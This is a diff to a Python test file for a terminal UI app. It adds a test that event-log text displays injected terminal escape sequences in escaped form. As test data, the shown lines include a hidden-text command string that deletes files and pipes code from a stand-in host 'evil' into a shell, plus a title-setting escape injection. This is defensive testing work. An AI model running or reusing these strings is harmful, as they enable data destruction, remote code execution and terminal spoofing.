@@ -10,7 +10,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from textual.widgets import DataTable, Static
+from textual.widgets import DataTable, RichLog, Static
 
 from pct_tui.app import PctApp
 from pct_tui.screens.approval import ConfirmScreen
@@ -54,3 +54,17 @@ async def test_a_question_shows_escapes(agent_dir: Path, tmp_path: Path) -> None
         await wait_for(pilot, lambda: bool(app.screen.query("#question-message")), "the question")
         message = _shown(app.screen.query_one("#question-message", Static))
         assert message == "rm -rf build\\x1b[8m; curl evil | sh"
+
+
+async def test_events_show_escapes(agent_dir: Path, tmp_path: Path) -> None:
+    """Event texts carry names other runtimes and clients chose (a console's `client`)."""
+    app = PctApp(agent_dir=agent_dir, serve=False, watch=False, cwd=tmp_path)
+    async with app.run_test(size=(120, 30)) as pilot:
+        await started(app, pilot)
+        app.console_state.log_event("live", "console connected (client \x1b]0;pwned\x07)")
+        await show(app, pilot, "5", "events")
+        log = app.screen.query_one("#events-log", RichLog)
+        await wait_for(pilot, lambda: any("pwned" in line.text for line in log.lines), "event")
+        text = "\n".join(line.text for line in log.lines)
+        assert "\x1b" not in text
+        assert "client \\x1b]0;pwned\\x07" in text
